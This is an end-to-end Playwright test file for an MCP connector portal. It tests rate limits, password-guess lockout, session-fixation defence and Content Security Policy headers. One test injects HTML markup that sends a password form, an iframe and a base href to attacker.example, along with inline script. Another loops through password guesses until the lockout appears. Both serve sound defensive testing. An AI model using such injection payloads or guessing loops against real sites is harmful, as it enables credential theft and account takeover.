import type { Page } from '@playwright/test'
import { createSample, publish, setAccess } from '../support/e2e-connectors'
import { inviteTo, joinAsNew, newPerson, signIn, signOut } from '../support/e2e-people'
import { alert, expect, test } from '../support/e2e-test'
import { startPortal } from '../support/portal.mjs'
import { LoopbackClient, newestClient } from '../support/sdk-clients.mjs'

function callTool(page: Page, slug: string, name = 'list_orders') {
  return page.request.post(`/mcp/${slug}`, {
    headers: { accept: 'application/json, text/event-stream', 'mcp-protocol-version': '2025-11-25' },
    data: { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name, arguments: {} } },
  })
}

test('limits are set on their page and act at once', async ({ ownerPage: page }) => {
  const { slug, here } = await createSample(page, 'acme')
  await setAccess(page, { slug, here }, 'Open')
  await publish(page, { slug, here })
  expect((await callTool(page, slug)).status()).toBe(200)

  await page.goto(`${here}/settings`)
  await expect(page.getByText('No limits')).toBeVisible()
  await page.getByRole('link', { name: 'Limits of calls' }).click()
  await expect(page.getByRole('heading', { name: 'Limits' })).toBeVisible()
  await page.getByLabel('All calls a minute').fill('many')
  await page.getByLabel('Calls at one time').fill('0')
  await page.getByRole('button', { name: 'Save limits' }).click()
  await expect(page.getByText('Write a whole number, like 60')).toBeVisible()
  await expect(page.getByText('Use at least 1')).toBeVisible()
  await expect(page.getByLabel('All calls a minute')).toHaveValue('many')

  await page.getByLabel('All calls a minute').fill('1,000')
  await page.getByLabel('Calls a minute of one user').fill('2')
  await page.getByLabel('Calls at one time').fill('')
  await page.getByRole('button', { name: 'Save limits' }).click()
  await expect(page.getByRole('status').filter({ hasText: 'Saved' })).toBeVisible()
  if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/limits.png`, fullPage: true })

  expect((await callTool(page, slug)).status()).toBe(200)
  expect((await callTool(page, slug)).status()).toBe(200)
  const refused = await callTool(page, slug)
  expect(refused.status()).toBe(429)
  const wait = refused.headers()['retry-after']
  expect(await refused.json()).toMatchObject({
    id: 7,
    error: { message: `Too many calls: at most 2 a minute from you. Try again in ${wait} s.` },
  })
  await page.goto(`${here}/settings`)
  await expect(page.getByText('1,000 a minute, 2 a minute of one user')).toBeVisible()
})

test('an editor sees the limits and cannot change them', async ({ ownerPage, newPage }) => {
  const { here } = await createSample(ownerPage, 'acme')
  const page = await newPage()
  await joinAsNew(page, await inviteTo(ownerPage, 'acme', 'Limits'), newPerson('Limited'))
  await page.goto(`${here}/settings/limits`)
  await expect(page.getByText('Only an admin or owner can change this')).toBeVisible()
  await expect(page.getByRole('button', { name: 'Save limits' })).toHaveCount(0)
})

test('a tool takes a limit of its own', async ({ ownerPage: page }) => {
  const { slug, here } = await createSample(page, 'acme')
  await setAccess(page, { slug, here }, 'Open')
  await page.goto(`${here}/tools/list_orders`)
  await page.getByText(/^Advanced/).click()
  await page.getByLabel('Calls a minute').fill('1')
  await expect(page.getByRole('status').filter({ hasText: /^Saved$/ })).toHaveCount(0)
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await expect(page.getByRole('status').filter({ hasText: /^Saved$/ })).toBeVisible()
  await publish(page, { slug, here })
  expect((await callTool(page, slug)).status()).toBe(200)
  expect((await callTool(page, slug)).status()).toBe(429)
  await page.goto(`${here}/tools/list_orders`)
  await page.getByText(/^Advanced/).click()
  await expect(page.getByLabel('Calls a minute')).toHaveValue('1')
})

test('who guesses a password has to wait, and its owner goes on in a browser of theirs', async ({
  ownerPage,
  newPage,
}) => {
  const person = newPerson('Guessed')
  const own = await newPage()
  await joinAsNew(own, await inviteTo(ownerPage, 'acme', 'Guessed'), person)
  await signOut(own)

  const guesser = await newPage()
  await guesser.goto('/sign-in')
  const tooMany = alert(guesser).filter({ hasText: /Too many tries\. Wait \d+ s, then try again\./ })
  let guesses = 0
  // Ten at once, and one more with each minute that these take.
  while (guesses < 30 && (await tooMany.count()) === 0) {
    const answered = guesser.waitForResponse((answer) => answer.request().method() === 'POST')
    await signIn(guesser, { ...person, password: `guess ${guesses}` })
    await answered
    await expect(alert(guesser)).toContainText(/is wrong|Too many/)
    guesses += 1
  }
  expect(guesses).toBeGreaterThan(10)
  await signIn(guesser, person)
  await expect(tooMany).toBeVisible()

  // The same address on the internet, another browser.
  await signIn(own, person)
  await expect(own.getByRole('heading', { name: 'Connectors' })).toBeVisible()
})

test('behind a proxy, all addresses of one IPv6 network count as one', async ({ newPage }) => {
  const portal = await startPortal({ env: { TRUST_PROXY: 'true' } })
  const { request } = (await newPage({ baseURL: portal.origin })).context()
  const guess = async (address: string) => {
    const authorization = `Basic ${Buffer.from('ada@acme.example:a wrong guess').toString('base64')}`
    const headers = { authorization, 'x-forwarded-for': `203.0.113.1, ${address}` }
    return (await request.post('/api/v1/tokens', { headers, data: {} })).status()
  }
  for (let count = 1; count <= 10; count += 1) expect(await guess(`2001:db8:1:2::${count}`)).toBe(401)
  expect(await guess('2001:db8:1:2:ffff::1')).toBe(429)
  expect(await guess('2001:db8:1:3::1')).toBe(401)
  await portal.stop()
})

test('a session that was planted before is not the one that signs in (CWE-384)', async ({
  ownerPage,
  newPage,
  origin,
}) => {
  const page = await newPage()
  const context = page.context()
  const cookie = async () =>
    (await context.cookies()).find(({ name }) => name.endsWith('next-auth.session-token'))?.value
  const planted = 'planted-by-somebody-else'
  await context.addCookies([{ name: 'next-auth.session-token', value: planted, url: origin }])
  await page.goto('/p/acme/connectors')
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible()

  const person = newPerson('Fixed')
  const joining = await newPage()
  await joinAsNew(joining, await inviteTo(ownerPage, 'acme', 'Fixed'), person)
  await signIn(page, person)
  await expect(page.getByRole('heading', { name: 'Connectors' })).toBeVisible()
  const first = await cookie()
  expect(first).toBeTruthy()
  expect(first).not.toBe(planted)

  await signOut(page)
  expect(await cookie()).toBeUndefined()
  await page.goto('/sign-in')
  await signIn(page, person)
  await expect(page.getByRole('heading', { name: 'Connectors' })).toBeVisible()
  expect(await cookie()).not.toBe(first)
})

for (const [scripts, javaScriptEnabled] of [
  ['with scripts', true],
  ['without scripts', false],
] as const) {
  test(`a person who signs in and allows goes back to the app, ${scripts}, though forms may go to this portal alone`, async ({
    ownerPage,
    newPage,
    origin,
  }) => {
    const sample = await createSample(ownerPage, 'acme')
    await setAccess(ownerPage, sample, 'Portal account')
    await publish(ownerPage, sample)
    const person = newPerson('Allows')
    await joinAsNew(await newPage(), await inviteTo(ownerPage, 'acme', 'Allows'), person)

    const claude = await LoopbackClient.start('Back to the app')
    try {
      const connection = newestClient(`${origin}/mcp/${sample.slug}`, claude.provider())
      await expect(connection.connect()).rejects.toThrow(/Unauthorized/i)
      const page = await newPage({ javaScriptEnabled })
      await page.goto(claude.consentUrl)
      await signIn(page, person)
      await expect(page.getByRole('button', { name: 'Allow' })).toBeVisible()
      const consent = await page.reload()
      expect(consent?.headers()['content-security-policy']).toContain("form-action 'self';")
      await page.getByRole('button', { name: 'Allow' }).click()
      await expect(page.getByRole('heading', { name: 'You can close this page' })).toBeVisible()
      await connection.finishAuth(await claude.waitForAnswer())
      const client = await connection.connect()
      expect(await client.listTools()).toHaveLength(6)
      await client.close()
    } finally {
      claude.stop()
    }
  })
}

test('what somebody managed to write into a page neither runs nor sends', async ({ ownerPage: page, complaints }) => {
  complaints.expect(/Content Security Policy/)
  await page.goto('/p/acme/connectors')
  const outcome = await page.evaluate(async () => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
    const planted = document.createElement('div')
    planted.innerHTML = `
      <img src="x:" onerror="window.ran = 'handler'">
      <form id="planted" action="https://attacker.example/"><input name="password"></form>
      <iframe src="https://attacker.example/"></iframe>
      <base href="https://attacker.example/">`
    document.body.append(planted)
    const script = document.createElement('div')
    script.innerHTML = '<script>window.ran = "script"</script>'
    document.body.append(document.importNode(script, true))
    document.querySelector<HTMLFormElement>('#planted')?.submit()
    await new Promise((resolve) => setTimeout(resolve, 300))
    return { refused, ran: (window as { ran?: string }).ran, base: document.baseURI }
  })
  expect(outcome.ran).toBeUndefined()
  expect(outcome.base).toContain('/p/acme/connectors')
  expect(outcome.refused).toEqual(expect.arrayContaining(['script-src-attr', 'form-action', 'frame-src', 'base-uri']))
  expect(new URL(page.url()).pathname).toBe('/p/acme/connectors')
})

test('every answer says how it may be used, pages or not', async ({ ownerPage: page }) => {
  const policyOf = async (path: string) =>
    (await page.request.get(path, { maxRedirects: 0, failOnStatusCode: false })).headers()['content-security-policy']
  const nonce = (policy: string | undefined) => /'nonce-([^']+)'/.exec(policy ?? '')?.[1]
  const [first, second] = [await policyOf('/sign-in?switch=1'), await policyOf('/sign-in?switch=1')]
  expect(nonce(first)).not.toBe(nonce(second))
  for (const path of ['/healthz', '/api/v1/connectors', '/api/v1/openapi.json', '/oauth/jwks', '/mcp/none']) {
    expect(await policyOf(path), path).toBe("default-src 'none'; frame-ancestors 'none'")
  }
  // A page for a person whose app asked for nonsense brings its own.
  expect(await policyOf('/oauth/authorize?client_id=none')).toContain("frame-ancestors 'none'")
})
